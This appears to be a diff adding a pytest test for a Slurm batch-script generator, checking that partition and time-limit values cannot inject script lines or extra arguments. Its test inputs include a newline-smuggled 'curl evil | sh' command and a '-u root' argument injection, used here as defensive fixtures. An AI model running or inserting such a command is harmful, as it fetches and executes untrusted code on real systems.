@@ -112,3 +112,18 @@ def test_supervisor_restart_book_backs_off_and_resets():
     book.due({1}, 200.0)
     book.failed(1, 201.5)
     assert book.due({1}, 204.4) == [] and book.due({1}, 204.5) == [1]
+
+
+def test_slurm_values_cannot_inject_script_lines_and_only_job_ids_reach_scancel(tmp_path) -> None:
+    from heron_py.scheduler.base import SchedulerError
+    from heron_py.scheduler.slurm import SlurmOptions, batch_script, check_slurm_value
+
+    assert check_slurm_value("partition", "debug,long") == "debug,long"
+    with pytest.raises(SchedulerError) as e:
+        batch_script(topology="wc", container=0, topology_id="t", home=tmp_path, python="python3",
+                     options=SlurmOptions(partition="debug\ncurl evil | sh"), state_args=[])
+    assert str(e.value) == ("slurm scheduler: partition 'debug\\ncurl evil | sh': expected letters, digits and "
+                            "'_.,:+-' only (it goes into an #SBATCH line)")
+    with pytest.raises(SchedulerError, match="time limit '1:00 -u root'"):
+        batch_script(topology="wc", container=0, topology_id="t", home=tmp_path, python="python3",
+                     options=SlurmOptions(time_limit="1:00 -u root"), state_args=[])
